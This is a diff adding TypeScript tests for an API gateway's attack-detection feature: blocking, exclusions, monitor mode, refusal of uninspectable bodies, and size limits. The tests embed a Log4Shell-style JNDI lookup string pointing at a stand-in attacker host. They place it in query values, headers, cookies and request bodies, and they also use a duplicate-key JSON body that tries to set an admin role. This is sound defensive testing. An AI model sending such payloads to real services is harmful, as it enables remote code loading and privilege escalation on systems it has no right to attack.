@@ -1,0 +1,135 @@
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { request } from 'undici';
+import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
+import { startGateway, type TestGateway } from '../helpers/gateway.ts';
+import { rawRequest } from '../helpers/raw-http.ts';
+
+let upstream: TestUpstream;
+let gw: TestGateway;
+
+const JNDI = '${jndi:ldap://attacker.example/a}';
+
+before(async () => {
+  upstream = await startUpstream();
+  gw = await startGateway({
+    upstreams: { up: { url: upstream.url } },
+    routes: [
+      { name: 'articles', path: '/articles/**', upstream: 'up', protections: { attackDetection: {
+        exclusions: [{ categories: ['jndi'], locations: ['body:$.content'], reason: 'rich text field quoting log lines' }],
+      } } },
+      { name: 'trial', path: '/trial/**', upstream: 'up', protections: { attackDetection: { mode: 'monitor' } } },
+      { name: 'uploads', path: '/uploads/**', upstream: 'up', protections: { attackDetection: { uninspectedBodyTypes: ['application/octet-stream'] } } },
+      { name: 'lenient', path: '/lenient/**', upstream: 'up', protections: { attackDetection: { unknownBodyTypes: 'inspect' } } },
+      { name: 'all', path: '/**', upstream: 'up' },
+    ],
+  });
+});
+after(async () => { await gw.close(); await upstream.close(); });
+
+async function send(path: string, options: { method?: string; body?: string | Buffer; headers?: Record<string, string> } = {}) {
+  const res = await request(`${gw.url}${path}`, { method: (options.method ?? 'GET') as 'GET', body: options.body, headers: options.headers });
+  const text = await res.body.text();
+  return { status: res.statusCode, headers: res.headers, text, problem: text.startsWith('{') ? JSON.parse(text) as Record<string, unknown> : {} };
+}
+
+test('an attack in a query value is blocked with 403 and a category reason; the upstream never sees it', async () => {
+  const count = upstream.requests.length;
+  const res = await send(`/search?q=${encodeURIComponent(JNDI)}`);
+  assert.equal(res.status, 403);
+  assert.equal(res.problem.reason, 'jndi_detected');
+  assert.equal(upstream.requests.length, count);
+});
+
+test('double-encoded and header-borne attacks are found too', async () => {
+  const twice = encodeURIComponent(encodeURIComponent(JNDI));
+  assert.equal((await send(`/search?q=${twice}`)).status, 403);
+  assert.equal((await send('/', { headers: { 'user-agent': `Mozilla/5.0 ${JNDI}` } })).status, 403);
+  assert.equal((await send('/', { headers: { cookie: `session=${encodeURIComponent(JNDI)}` } })).status, 403);
+});
+
+test('attacks in JSON, form and multipart bodies are blocked; the event names rule, category and JSON path', async () => {
+  const json = await send('/api/orders', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ note: 'x' }, { note: JNDI }] }) });
+  assert.equal(json.status, 403);
+  const form = await send('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `user=${encodeURIComponent(JNDI)}` });
+  assert.equal(form.status, 403);
+  const boundary = 'xYzZY';
+  const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${JNDI}\r\n--${boundary}--\r\n`;
+  const mp = await send('/upload', { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: multipart });
+  assert.equal(mp.status, 403);
+  const events = (await gw.logs()).filter((r) => r.type === 'security' && r.requestId === json.headers['x-request-id']);
+  assert.equal(events.length, 1);
+  assert.equal(events[0]!.protection, 'attack-detection');
+  assert.equal(events[0]!.reason, 'jndi_detected');
+  assert.equal(events[0]!.location, 'body:$.items[1].note');
+  assert.match(String(events[0]!.ruleId), /^jndi-/);
+  assert.ok(String(events[0]!.excerpt).includes('jndi'));
+});
+
+test('benign traffic passes: prose, code-like text, URLs in parameters', async () => {
+  const samples = [
+    '/search?q=select+your+size+from+the+list',
+    `/search?q=${encodeURIComponent("O'Brien & Sons - price ${total}")}`,
+    `/redirect?next=${encodeURIComponent('https://example.com/a?b=c')}`,
+  ];
+  for (const path of samples) assert.equal((await send(path)).status, 200, path);
+  const json = await send('/api/posts', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: 'Hello {{name}}', body: 'if (a < b && c > d) { return; }' }) });
+  assert.equal(json.status, 200);
+});
+
+test('exclusions turn a category off at a JSON path, and only there', async () => {
+  const excluded = await send('/articles/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: JNDI }) });
+  assert.equal(excluded.status, 200);
+  const elsewhere = await send('/articles/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: JNDI }) });
+  assert.equal(elsewhere.status, 403);
+});
+
+test('monitor mode on a route records would-have-blocked and forwards', async () => {
+  const res = await send(`/trial/x?q=${encodeURIComponent(JNDI)}`);
+  assert.equal(res.status, 200);
+  const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
+  assert.equal(event?.wouldBlock, true);
+  assert.equal(event?.reason, 'jndi_detected');
+});
+
+test('bodies that cannot be inspected are refused: no or unknown Content-Type 415, malformed JSON 400, duplicate keys 400', async () => {
+  const count = upstream.requests.length;
+  assert.equal((await send('/x', { method: 'POST', body: '{"a":1}' })).problem.reason, 'unsupported_media_type');
+  assert.equal((await send('/x', { method: 'POST', body: 'abc', headers: { 'content-type': 'application/x-custom' } })).status, 415);
+  const bad = await send('/x', { method: 'POST', body: '{"a":1,}', headers: { 'content-type': 'application/json' } });
+  assert.equal(bad.status, 400);
+  assert.equal(bad.problem.reason, 'json_invalid');
+  const dup = await send('/x', { method: 'POST', body: '{"role":"user","role":"admin"}', headers: { 'content-type': 'application/json' } });
+  assert.equal(dup.problem.reason, 'json_duplicate_key');
+  assert.equal((await send('/x', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json; charset=utf-7' } })).status, 415);
+  assert.equal(upstream.requests.length, count, 'none of them reached the upstream');
+});
+
+test('a route can forward a media type uninspected, or inspect unknown types with every parser', async () => {
+  assert.equal((await send('/uploads/a.bin', { method: 'PUT', body: JNDI, headers: { 'content-type': 'application/octet-stream' } })).status, 200);
+  assert.equal((await send('/lenient/x', { method: 'POST', body: 'plain words' })).status, 200);
+  assert.equal((await send('/lenient/x', { method: 'POST', body: JSON.stringify({ a: JNDI }) })).status, 403, 'found by the JSON parser');
+});
+
+test('limits of inspection fail closed: too large to inspect is 413, not passed', async (t) => {
+  const small = await startGateway({
+    upstreams: { up: { url: upstream.url } },
+    routes: [{ path: '/**', upstream: 'up' }],
+    protections: { attackDetection: { maxInspectedBodyBytes: 2048, maxValueBytes: 512, maxInputs: 20 } },
+  });
+  t.after(() => small.close());
+  const big = await request(`${small.url}/x`, { method: 'POST', body: 'a'.repeat(4096), headers: { 'content-type': 'text/plain' } });
+  assert.equal(big.statusCode, 413);
+  assert.equal((await big.body.json() as { reason: string }).reason, 'body_too_large_to_inspect');
+  // With a declared length, the refusal comes before any body byte is read.
+  const early = await rawRequest(small.port, 'POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n', { timeoutMs: 1500 });
+  assert.equal(early.status, 413);
+  assert.match(early.text, /body_too_large_to_inspect/);
+  assert.ok(early.elapsedMs < 1000);
+  const long = await request(`${small.url}/x?q=${'b'.repeat(600)}`);
+  assert.equal(long.statusCode, 413);
+  await long.body.dump();
+  const many = await request(`${small.url}/x?${Array.from({ length: 30 }, (_, i) => `p${i}=1`).join('&')}`);
+  assert.equal(many.statusCode, 400);
+  await many.body.dump();
+});
